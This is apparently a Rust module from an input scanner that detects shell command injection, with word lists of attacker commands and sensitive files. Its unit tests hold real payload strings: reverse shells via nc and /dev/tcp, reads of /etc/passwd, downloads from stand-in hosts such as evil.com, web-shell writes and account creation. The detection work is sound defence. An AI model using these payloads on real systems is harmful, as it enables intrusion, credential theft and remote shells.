//! Command injection by shell syntax: a known command in a place where a
//! shell would run it — at the start of the value, or after `;`, `|`,
//! `&&`, a backquote, `$(`, a here-string or a newline — with the quoting,
//! `$IFS` and empty-variable tricks that hide a command name undone first.

use std::borrow::Cow;
use std::sync::LazyLock;

use crate::fnv::FnvSet;

/// Unix commands an attacker runs (recon, download, shells, interpreters,
/// file readers, system tools).
const UNIX: &[&str] = &[
    "7z",
    "7za",
    "aa-complain",
    "aa-disable",
    "aa-enforce",
    "aa-exec",
    "aa-remove-unknown",
    "aa-status",
    "alias",
    "ansible",
    "ansible-config",
    "ansible-console",
    "ansible-doc",
    "ansible-galaxy",
    "ansible-inventory",
    "ansible-playbook",
    "ansible-pull",
    "ansible-vault",
    "apt",
    "apt-get",
    "aptitude",
    "ar",
    "aria2c",
    "arp",
    "as",
    "ash",
    "at",
    "awk",
    "base32",
    "base64",
    "basenc",
    "bash",
    "batch",
    "bc",
    "bpftrace",
    "bridge",
    "bundle",
    "bundler",
    "busctl",
    "busybox",
    "byebug",
    "bzcat",
    "bzip2",
    "c89",
    "c99",
    "cancel",
    "capsh",
    "cat",
    "cc",
    "cd",
    "certbot",
    "check_by_ssh",
    "chef-client",
    "chef-run",
    "chef-shell",
    "chef-solo",
    "chef-vault",
    "chgrp",
    "chmod",
    "chown",
    "chroot",
    "chsh",
    "cksum",
    "clang",
    "cmp",
    "column",
    "comm",
    "composer",
    "cowsay",
    "cp",
    "cpan",
    "cpio",
    "cpulimit",
    "crash",
    "crontab",
    "cscli",
    "csh",
    "csplit",
    "csvtool",
    "ctr",
    "cupsfilter",
    "curl",
    "cut",
    "dash",
    "date",
    "dd",
    "debugfs",
    "dialog",
    "diff",
    "dig",
    "disown",
    "dmesg",
    "dmidecode",
    "dmsetup",
    "dnf",
    "docker",
    "dpkg",
    "dstat",
    "dvips",
    "easy_install",
    "eb",
    "echo",
    "ed",
    "efax",
    "emacs",
    "enscript",
    "env",
    "eqn",
    "espeak",
    "ex",
    "exiftool",
    "expand",
    "expect",
    "export",
    "facter",
    "fetch",
    "file",
    "find",
    "finger",
    "fish",
    "flock",
    "fmt",
    "fold",
    "fping",
    "ftp",
    "gawk",
    "gcc",
    "gcloud",
    "gcore",
    "gdb",
    "gem",
    "genie",
    "genisoimage",
    "getent",
    "ghc",
    "ghci",
    "gimp",
    "git",
    "grep",
    "gtester",
    "gzip",
    "hd",
    "head",
    "hexdump",
    "highlight",
    "history",
    "hostid",
    "hostname",
    "hping3",
    "iconv",
    "id",
    "ifconfig",
    "iftop",
    "ionice",
    "ip",
    "ipconfig",
    "iptables",
    "irb",
    "iwconfig",
    "jjs",
    "journalctl",
    "jq",
    "jrunscript",
    "jshell",
    "julia",
    "kill",
    "killall",
    "knife",
    "ksh",
    "ksshell",
    "kubectl",
    "last",
    "lastb",
    "lastlog",
    "lastlogin",
    "latex",
    "ld",
    "ldconfig",
    "less",
    "lftp",
    "links",
    "ll",
    "ln",
    "loginctl",
    "logsave",
    "look",
    "lp",
    "ls",
    "lsattr",
    "lsb_release",
    "lsmod",
    "lsof",
    "lsusb",
    "ltrace",
    "lua",
    "lualatex",
    "luatex",
    "lwp-download",
    "lwp-request",
    "lynx",
    "mail",
    "make",
    "man",
    "mawk",
    "more",
    "mount",
    "mtr",
    "mv",
    "mysql",
    "mysqldump",
    "nano",
    "nasm",
    "nawk",
    "nc",
    "ncat",
    "ncftp",
    "neofetch",
    "net",
    "netcat",
    "netstat",
    "nice",
    "nl",
    "nmap",
    "nmcli",
    "node",
    "nohup",
    "npm",
    "nproc",
    "nroff",
    "nsenter",
    "nslookup",
    "octave",
    "od",
    "openssl",
    "openvpn",
    "opkg",
    "passwd",
    "paste",
    "patch",
    "pdb",
    "pdflatex",
    "pdftex",
    "perf",
    "perl",
    "pg",
    "php",
    "php5",
    "php7",
    "php8",
    "pic",
    "pico",
    "pidstat",
    "ping",
    "pip",
    "pip3",
    "pipx",
    "pkexec",
    "pkg",
    "pkill",
    "popd",
    "pr",
    "printenv",
    "printf",
    "pry",
    "ps",
    "psql",
    "puppet",
    "pushd",
    "python",
    "python2",
    "python3",
    "rake",
    "rc",
    "readelf",
    "readonly",
    "red",
    "redcarpet",
    "restic",
    "rev",
    "rlogin",
    "rlwrap",
    "rm",
    "rmdir",
    "rmt",
    "rmt-dump",
    "rmt-tar",
    "route",
    "rpm",
    "rsync",
    "ruby",
    "run-mailcap",
    "run-parts",
    "rview",
    "rvim",
    "sash",
    "scp",
    "screen",
    "script",
    "sed",
    "service",
    "setarch",
    "setfacl",
    "sftp",
    "sg",
    "sh",
    "shopt",
    "shuf",
    "slsh",
    "smbclient",
    "socat",
    "sort",
    "source",
    "split",
    "sqlite3",
    "ss",
    "ssh",
    "ssh-copy-id",
    "ssh-keygen",
    "start-stop-daemon",
    "stat",
    "stdbuf",
    "strace",
    "strings",
    "su",
    "sudo",
    "sysctl",
    "systemctl",
    "systemd-run",
    "tac",
    "tail",
    "tar",
    "taskset",
    "tbl",
    "tclsh",
    "tcpdump",
    "tcsh",
    "tee",
    "telnet",
    "tex",
    "tftp",
    "tic",
    "time",
    "timedatectl",
    "timeout",
    "tmux",
    "top",
    "touch",
    "tr",
    "traceroute",
    "trap",
    "troff",
    "uconv",
    "ul",
    "ulimit",
    "umask",
    "uname",
    "unexpand",
    "uniq",
    "unset",
    "unshare",
    "unzip",
    "update-alternatives",
    "useradd",
    "usermod",
    "uudecode",
    "uuencode",
    "valgrind",
    "vi",
    "view",
    "vigr",
    "vim",
    "vimdiff",
    "vipw",
    "virsh",
    "visudo",
    "volatility",
    "w",
    "wall",
    "watch",
    "wc",
    "wget",
    "whiptail",
    "who",
    "whoami",
    "whois",
    "wish",
    "xargs",
    "xdotool",
    "xelatex",
    "xetex",
    "xmodmap",
    "xmore",
    "xpad",
    "xxd",
    "xz",
    "yarn",
    "yash",
    "yelp",
    "yes",
    "yum",
    "zathura",
    "zip",
    "zsh",
    "zsoelim",
    "zypper",
];

/// Commands that are also everyday words: at the start of a value or after
/// a weak separator they count only with shell-like arguments.
const AMBIGUOUS: &[&str] = &[
    "alias",
    "apt",
    "ar",
    "as",
    "at",
    "batch",
    "bc",
    "bridge",
    "cancel",
    "cat",
    "cd",
    "column",
    "comm",
    "crash",
    "cut",
    "date",
    "dialog",
    "diff",
    "echo",
    "ed",
    "env",
    "ex",
    "expand",
    "expect",
    "export",
    "fetch",
    "file",
    "find",
    "finger",
    "fish",
    "fmt",
    "fold",
    "gem",
    "genie",
    "git",
    "hd",
    "head",
    "highlight",
    "history",
    "id",
    "ip",
    "kill",
    "last",
    "less",
    "links",
    "look",
    "mail",
    "make",
    "man",
    "more",
    "mount",
    "net",
    "nice",
    "node",
    "paste",
    "patch",
    "pg",
    "pic",
    "ping",
    "pr",
    "readonly",
    "red",
    "rev",
    "route",
    "screen",
    "script",
    "service",
    "sort",
    "source",
    "split",
    "stat",
    "strings",
    "tail",
    "tee",
    "time",
    "top",
    "touch",
    "trap",
    "view",
    "w",
    "wall",
    "watch",
    "who",
    "wish",
    "yes",
];

/// Commands an attacker runs alone to learn about the host.
const RECON: &[&str] = &[
    "dmesg",
    "getent",
    "hostname",
    "ifconfig",
    "ipconfig",
    "lastlog",
    "lsb_release",
    "lsmod",
    "lsof",
    "netstat",
    "nproc",
    "printenv",
    "ps",
    "uname",
    "visudo",
    "whoami",
];

/// Words that hand the rest of the line to another command.
const PREFIXES: &[&str] = &[
    "builtin", "command", "do", "doas", "else", "env", "eval", "exec", "ionice", "nice", "nohup", "stdbuf", "strace",
    "sudo", "taskset", "then", "time", "timeout", "xargs",
];

/// Files whose mention as an argument makes a command line shell-like.
const SENSITIVE: &[&str] = &["authorized_keys", "group", "hosts", "id_rsa", "passwd", "shadow", "sudoers", "win.ini"];

/// A command name no prose uses: `aa-disable`, `ssh-keygen`, `php7`.
fn distinctive(name: &str) -> bool {
    name.contains(['-', '_']) || name.ends_with(|c: char| c.is_ascii_digit())
}

/// A word list hashed once, for lookups on every value.
type Words = LazyLock<FnvSet<&'static str>>;

macro_rules! words {
    ($name:ident, $list:ident) => {
        static $name: Words = LazyLock::new(|| $list.iter().copied().collect());
    };
}

words!(UNIX_WORDS, UNIX);
words!(AMBIGUOUS_WORDS, AMBIGUOUS);
words!(RECON_WORDS, RECON);
words!(PREFIX_WORDS, PREFIXES);
words!(SENSITIVE_WORDS, SENSITIVE);
words!(WINDOWS_WORDS, WINDOWS);

/// Undoes the usual ways to hide a command name from a pattern: quotes
/// and backslashes inside words, `$IFS` for spaces, unset variables.
fn unquote(s: &str) -> Cow<'_, str> {
    if !s.contains(['\\', '\'', '"', '$']) {
        return Cow::Borrowed(s);
    }
    // Most values here have a quote (O'Brien, it's), few a `$`: a string
    // search sets up a searcher and the replacement copies, each time.
    let s = if crate::scan::contains(s, b'$') {
        Cow::Owned(s.replace("${ifs}", " ").replace("$ifs", " "))
    } else {
        Cow::Borrowed(s)
    };
    let b = s.as_bytes();
    let mut out = String::with_capacity(s.len());
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'\\' | b'\'' | b'"' => i += 1,
            b'$' if matches!(b.get(i + 1), Some(b'@' | b'*')) => i += 2,
            b'$' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_') => {
                i += 1;
                while i < b.len() && (b[i].is_ascii_alphanumeric() || b[i] == b'_') {
                    i += 1;
                }
            }
            b'$' if b.get(i + 1) == Some(&b'{')
                && s[i..].find('}').is_some_and(|e| !s[i + 2..i + e].contains([':', '$', '(', '#'])) =>
            {
                i += s[i..].find('}').unwrap_or(0) + 1;
            }
            _ => {
                let ch = s[i..].chars().next().unwrap_or(' ');
                out.push(ch);
                i += ch.len_utf8();
            }
        }
    }
    Cow::Owned(out)
}

/// How a command position was reached.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Position {
    /// The start of the value.
    Start,
    /// After `;`, `|`, `&`, `(`, `{`: punctuation that prose uses too.
    Weak,
    /// After `&&`, `||`, a backquote, `$(`, `<<<`, `<(`, `>(`, a newline,
    /// or a `;` with no space after it.
    Strong,
}

fn word_end(b: &[u8], mut i: usize) -> usize {
    while i < b.len()
        && (b[i].is_ascii_alphanumeric() || matches!(b[i], b'_' | b'-' | b'.' | b'/' | b'+' | b'[' | b']'))
    {
        i += 1;
    }
    i
}

fn skip_spaces(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && matches!(b[i], b' ' | b'\t') {
        i += 1;
    }
    i
}

fn shell_like_argument(rest: &str) -> bool {
    let rest = rest.trim_start_matches([' ', '\t']);
    let Some(c) = rest.chars().next() else { return false };
    if matches!(c, '-' | '/' | '~' | '$' | '>' | '<' | '|' | '*' | '`') {
        return true;
    }
    let b = rest.as_bytes();
    let word = &rest[..word_end(b, 0)];
    let base = word.rsplit('/').next().unwrap_or(word);
    SENSITIVE_WORDS.contains(base)
        || (UNIX_WORDS.contains(base) && !AMBIGUOUS_WORDS.contains(base))
        || word.starts_with("http")
        || redirects(rest)
}

/// Whether the command's output goes to a file or descriptor at once or
/// after one word (`echo x > /var/www/s.php`, `id >&2`): `sort by price >
/// /month` is words.
fn redirects(rest: &str) -> bool {
    let rest = rest.trim_start();
    let after_word = rest.find(char::is_whitespace).map_or("", |i| rest[i..].trim_start());
    [rest, after_word].iter().any(|r| {
        r.strip_prefix('>')
            .map(|r| r.strip_prefix('>').unwrap_or(r).trim_start())
            .is_some_and(|target| target.starts_with(['/', '&']))
    })
}

/// Whether a command runs at byte `i` of `s` (reached as `how`).
fn command_at(s: &str, i: usize, how: Position, depth: u8) -> bool {
    let b = s.as_bytes();
    let start = skip_spaces(b, i);
    let end = word_end(b, start);
    if end == start || depth > 3 {
        return false;
    }
    let word = &s[start..end];
    let name = word.rsplit('/').next().unwrap_or(word);
    let rest = &s[end..];
    if how == Position::Start && rest.is_empty() && !word.contains('/') {
        // One word alone: a reconnaissance command, or a command name no
        // prose uses. Most values are one word; keep this path short.
        return RECON_WORDS.contains(name) || (distinctive(name) && UNIX_WORDS.contains(name));
    }
    if PREFIX_WORDS.contains(name) && !rest.trim().is_empty() {
        // `time ifconfig`, `sudo -u x id`, `timeout 5 sh`: the command follows.
        let mut j = skip_spaces(b, end);
        while j < b.len() && (b[j] == b'-' || b[j].is_ascii_digit()) {
            j = skip_spaces(b, word_end(b, j + 1));
        }
        if command_at(s, j, how, depth + 1) {
            return true;
        }
    }
    if !UNIX_WORDS.contains(name) {
        return false;
    }
    // A shell word ends at a space or shell punctuation: `base64,` (a data
    // URI) or `cat:` is not a command.
    if !rest.is_empty() && !rest.starts_with([' ', '\t', ';', '|', '&', '<', '>', ')', '`', '\n', '\r', '$', '}']) {
        return false;
    }
    let pathed = word.contains('/');
    match how {
        Position::Strong => true,
        _ if pathed => true,
        _ if AMBIGUOUS_WORDS.contains(name) => shell_like_argument(rest),
        Position::Weak => true,
        // A value that starts with a command name is often just words
        // ("python snake care"): it needs shell-like arguments, or to be
        // a reconnaissance command on its own.
        // A name no prose uses (`aa-disable`, `ssh-keygen`, `php7`) is a command wherever it stands.
        Position::Start => {
            shell_like_argument(rest) || (rest.trim().is_empty() && RECON_WORDS.contains(name)) || distinctive(name)
        }
    }
}

/// Whether `s` (decoded, lowercased) runs a Unix command.
pub fn unix_command(s: &str) -> bool {
    let s = unquote(s);
    let b = s.as_bytes();
    if command_at(&s, 0, Position::Start, 0) {
        return true;
    }
    let mut i = 0;
    while i < b.len() {
        let (how, len) = match b[i] {
            b'`' | b'\n' | b'\r' => (Position::Strong, 1),
            b'$' if b.get(i + 1) == Some(&b'(') => (Position::Strong, 2),
            b'<' if s[i..].starts_with("<<<") => (Position::Strong, 3),
            b'<' | b'>' if b.get(i + 1) == Some(&b'(') => (Position::Strong, 2),
            b'&' if b.get(i + 1) == Some(&b'&') => (Position::Strong, 2),
            b'|' if b.get(i + 1) == Some(&b'|') => (Position::Strong, 2),
            // `;id`, `x|id`: glued to the next word, as prose never is.
            b';' | b'|' | b'&' if b.get(i + 1).is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'/') => {
                (Position::Strong, 1)
            }
            b';' | b'|' | b'&' | b'{' => (Position::Weak, 1),
            // A subshell opens only where a command could start: after
            // `database (mysql)` the shell would stop at a syntax error.
            b'(' if s[..i].trim_end().bytes().next_back().is_none_or(|c| b";|&({`!\n".contains(&c)) => {
                (Position::Weak, 1)
            }
            _ => {
                i += 1;
                continue;
            }
        };
        if command_at(&s, i + len, how, 0) {
            return true;
        }
        i += len;
    }
    false
}

/// Paranoia 2: a value that starts with a command name prose does not
/// share and has a shell-like argument anywhere after it: `ansible all -m
/// ping`, `rc script.sh`. At level 1 only the first argument counts, so
/// that "python tutorial for beginners -- part 2" stays a search.
pub fn leading_command(s: &str) -> bool {
    let s = unquote(s);
    let b = s.as_bytes();
    let start = skip_spaces(b, 0);
    let end = word_end(b, start);
    let name = &s[start..end];
    if !s[end..].starts_with([' ', '\t']) || !UNIX_WORDS.contains(name) || AMBIGUOUS_WORDS.contains(name) {
        return false;
    }
    s[end..].split_ascii_whitespace().any(|arg| {
        let option = arg.strip_prefix("--").or_else(|| arg.strip_prefix('-'));
        option.is_some_and(|o| o.starts_with(|c: char| c.is_ascii_alphabetic()))
            || arg.starts_with(['/', '~', '$'])
            || (arg.len() > 3 && arg.ends_with(".sh"))
    })
}

/// Whether a brace expansion in `s` spells a command: bash reads
/// `{cat,/etc/passwd}` as `cat /etc/passwd` and `{l,-lh}s` as `ls -lhs`,
/// a command with no spaces. A set (`{1,2,3}`) or an API's field list
/// (`friends{name,id}`) expands to no command.
pub fn brace_command(s: &str) -> bool {
    let b = s.as_bytes();
    let word = |c: u8| !c.is_ascii_whitespace() && !b"{};|&`()".contains(&c);
    let mut from = 0;
    while let Some(open) = s[from..].find('{').map(|i| i + from) {
        from = open + 1;
        let Some(close) = s[open..].find('}').map(|i| i + open) else { break };
        let inner = &s[open + 1..close];
        if !inner.contains(',') || inner.bytes().any(|c| !word(c)) {
            continue;
        }
        let mut start = open;
        while start > 0 && word(b[start - 1]) {
            start -= 1;
        }
        let mut end = close + 1;
        while end < b.len() && word(b[end]) {
            end += 1;
        }
        let (prefix, suffix) = (&s[start..open], &s[close + 1..end]);
        let expanded: Vec<String> =
            inner.split(',').filter(|w| !w.is_empty()).map(|w| format!("{prefix}{w}{suffix}")).collect();
        if unix_command(&expanded.join(" ")) {
            return true;
        }
    }
    false
}

/// Whether `s` defines a shell alias (`alias a=curl`, `alias -p x='id'`)
/// where a shell would read it.
pub fn alias(s: &str) -> bool {
    // A byte loop: `str::contains` sets up a substring searcher each call,
    // and this runs on most new argument values.
    if !s.as_bytes().windows(5).any(|w| w == b"alias") {
        return false;
    }
    let s = unquote(s);
    let b = s.as_bytes();
    let mut from = 0;
    while let Some(at) = s[from..].find("alias").map(|i| i + from) {
        from = at + 5;
        let separated = s[..at].trim_end().is_empty() || s[..at].trim_end().ends_with([';', '|', '&', '`', '(', '\n']);
        if !separated || !b.get(from).is_some_and(|c| *c == b' ' || *c == b'\t') {
            continue;
        }
        let mut i = skip_spaces(b, from);
        while i < b.len() && matches!(b[i], b'-' | b'+') {
            i = skip_spaces(b, word_end(b, i + 1));
        }
        let name_end = s[i..].find(|c: char| c == '=' || c.is_whitespace()).map_or(b.len(), |e| e + i);
        if name_end > i && b.get(name_end) == Some(&b'=') {
            return true;
        }
    }
    false
}

/// Windows commands an attacker runs after a separator (or alone).
const WINDOWS: &[&str] = &[
    "arp",
    "at",
    "attrib",
    "bcdedit",
    "bitsadmin",
    "cacls",
    "certreq",
    "certutil",
    "cipher",
    "cmd",
    "cmd.exe",
    "cmdkey",
    "cscript",
    "csvde",
    "del",
    "dir",
    "diskpart",
    "dnscmd",
    "dsquery",
    "esentutl",
    "expand",
    "findstr",
    "forfiles",
    "fsutil",
    "ftp",
    "icacls",
    "ipconfig",
    "makecab",
    "mshta",
    "msiexec",
    "nbtstat",
    "net",
    "net1",
    "netsh",
    "netstat",
    "nltest",
    "nslookup",
    "odbcconf",
    "pcalua",
    "ping",
    "powershell",
    "powershell.exe",
    "pwsh",
    "qprocess",
    "quser",
    "reg",
    "reg.exe",
    "regedit",
    "regini",
    "regsvr32",
    "rundll32",
    "sc",
    "schtasks",
    "set",
    "systeminfo",
    "taskkill",
    "tasklist",
    "tracert",
    "type",
    "vssadmin",
    "wevtutil",
    "whoami",
    "wmic",
    "wscript",
    "xcopy",
];

/// PowerShell's aliases for what an attack runs: invoke an expression,
/// fetch, list, start a process or job, import a module. Not the ones
/// that are also names or words (`sal`, `gp`).
const POWERSHELL_ALIASES: &[&str] = &["gci", "gcim", "gcm", "gwmi", "icm", "iex", "ipmo", "irm", "iwr", "sajb", "saps"];

/// Whether `s` (decoded, lowercased) runs a Windows command after a
/// separator, or names one of the tools attackers abuse at the start.
pub fn windows_command(s: &str) -> bool {
    let s = if s.contains(['^', '"']) { Cow::Owned(s.replace(['^', '"'], "")) } else { Cow::Borrowed(s) };
    let b = s.as_bytes();
    let separators = b.iter().enumerate().filter(|(_, c)| matches!(c, b';' | b'|' | b'&' | b'\n' | b'`'));
    // `&&` and `||` chain commands; prose does not write them.
    let chained = |i: usize| matches!(b[i], b'&' | b'|') && i > 0 && b[i - 1] == b[i];
    let starts = separators.map(|(i, _)| (i + 1, true, chained(i)));
    std::iter::once((0, false, false)).chain(starts).any(|(p, separated, chained)| {
        let start = skip_spaces(b, p);
        let mut end = start;
        while end < b.len() && (b[end].is_ascii_alphanumeric() || matches!(b[end], b'.' | b'_' | b'\\' | b':')) {
            end += 1;
        }
        let word = &s[start..end];
        let name = word.rsplit('\\').next().unwrap_or(word);
        let rest = s[end..].trim_start();
        // Short names run only with one of their subcommands; PowerShell's
        // aliases only after a separator, as whole words.
        let subcommands: &[&str] = match name {
            "net" | "net1" => {
                &["user", "localgroup", "group", "share", "use", "view", "start", "stop", "accounts", "session"]
            }
            "reg" | "reg.exe" => &["query", "add", "delete", "save", "export", "import", "load"],
            "sc" => &["query", "qc", "create", "config", "start", "stop", "delete"],
            // cmd's tests (`if exist c:\boot.ini type …`).
            "if" if separated => &["exist ", "not exist ", "defined ", "errorlevel "],
            _ => &[],
        };
        let subcommand = subcommands.iter().any(|w| rest.starts_with(w));
        // cmd's loops: `for /f %i in ('whoami') do …`.
        let for_loop = name == "for" && rest.starts_with('/') && rest.contains('%') && rest.contains(" in");
        let alias = separated && POWERSHELL_ALIASES.contains(&name) && !rest.starts_with(['=', '.']);
        alias
            || for_loop
            || subcommand
            || WINDOWS_WORDS.contains(name)
                && (chained
                    || separated && (rest.starts_with(['/', '-']) || rest.starts_with("http") || name.len() > 4)
                    || matches!(
                        name,
                        "powershell"
                            | "powershell.exe"
                            | "cmd.exe"
                            | "certutil"
                            | "bitsadmin"
                            | "mshta"
                            | "regsvr32"
                            | "rundll32"
                            | "wmic"
                    ) && (rest.starts_with(['/', '-']) || rest.contains("http")))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn unix_attacks() {
        for a in [
            ";cat /etc/passwd",
            "; cat /etc/passwd",
            "x|id",
            "`whoami`",
            "$(curl http://x)",
            "a && wget http://evil/x.sh",
            "time sh -c whoami",
            "time; ansible all -m ping",
            "code=;find /etc -name passwd -exec cat {} +",
            "cd /;cd etc;column passwd",
            ";`cat<<<sh -c whoami`",
            "ti''me sh -c whoami",
            "a; sh$xx -c whoami",
            "/bin/bash -i",
            "ls -l /etc/passwd",
            "ifconfig",
            "nc -e /bin/sh 10.0.0.1 4444",
            ";lastlog -u root",
            "d=/dev&&(sh)0>$d/tcp/1.2.3.4/777",
            "(uname -a)",
            "x; (whoami)",
            "; echo 'x' > /var/www/html/s.php",
            "; echo x >>/tmp/a",
        ] {
            assert!(unix_command(a), "{a}");
        }
    }

    #[test]
    fn prose() {
        for t in [
            "find my order",
            "cat pictures",
            "terms & conditions",
            "more info; see below",
            "time to go",
            "who are you",
            "last night (at home)",
            "head office | contact",
            "echo chamber",
            "salt & pepper",
            "make it so",
            "ping pong",
            "database (mysql) vs postgres",
            "sort by price > /month",
            "the date is tomorrow",
            "sort by price",
            "id",
            "yes",
            "python snake care",
            "docker compose tutorial",
            "at&t customer service",
        ] {
            assert!(!unix_command(t), "{t}");
        }
    }

    #[test]
    fn word_lists_are_sorted() {
        for list in [UNIX, AMBIGUOUS, PREFIXES, SENSITIVE, RECON, WINDOWS] {
            assert!(list.windows(2).all(|w| w[0] < w[1]), "{list:?}");
        }
    }

    #[test]
    fn brace_expansions() {
        for a in ["{cat,/etc/passwd}", ";{wget,http://x.test/a}", "{,ifconfig}", "{l,-lh}s", "{nc,-lvp,4444}"] {
            assert!(brace_command(a), "{a}");
        }
        for t in ["{1,2,3}", "friends{name,id}", "*.{jpg,png}", "{red, green}", "{id,name}", "{a,b"] {
            assert!(!brace_command(t), "{t}");
        }
    }

    #[test]
    fn aliases() {
        for a in ["alias a=b", "alias -p jzfrx=id", "alias 'letter'=curl&letter x", "x; alias +m a=b", "alias ..=cd .."]
        {
            assert!(alias(a), "{a}");
        }
        for t in ["an alias is a name", "alias: bob", "alias=x"] {
            assert!(!alias(t), "{t}");
        }
    }

    #[test]
    fn windows() {
        for a in [
            "; regedit /e c:\\ads\\file.txt",
            "; mshta http://example.com",
            "; certutil -urlcache -f http://evil.com/payload.exe",
            "powershell -enc abc",
            "| net user admin /add",
            "& reg query hklm\\software",
            "x | iex",
            "; gci c:\\",
            "&sc qc spooler",
            "& for /f %i in ('whoami') do echo %i",
            "for /l %x in (1,1,10) do ping x",
            "|if exist c:\\boot.ini type c:\\boot.ini",
            "127.0.0.1 && dir",
            "x || type c:\\boot.ini",
            "a && set",
        ] {
            assert!(windows_command(a), "{a}");
        }
        for t in [
            "net income",
            "set the table",
            "type here",
            "dir: north",
            "powershell tips",
            "tom & sal",
            "iex is an alias",
            "the reg query tool",
            "x | gci.json",
            "for /r and /f see the manual",
            "the value, if defined by the caller",
            "tom & dir",
            "r&d type",
        ] {
            assert!(!windows_command(t), "{t}");
        }
    }

    #[test]
    fn leading_commands() {
        for a in ["ansible all -m ping", "rc script.sh", "python x.py --eval", "docker run -it ubuntu", "ll /var/www/"]
        {
            assert!(leading_command(a), "{a}");
        }
        for t in [
            "python tutorial for beginners -- part 2",
            "ruby on rails jobs",
            "docker",
            "cat -v",
            "make sure -- please",
            "x ansible -m",
            "pip install something",
        ] {
            assert!(!leading_command(t), "{t}");
        }
    }
}
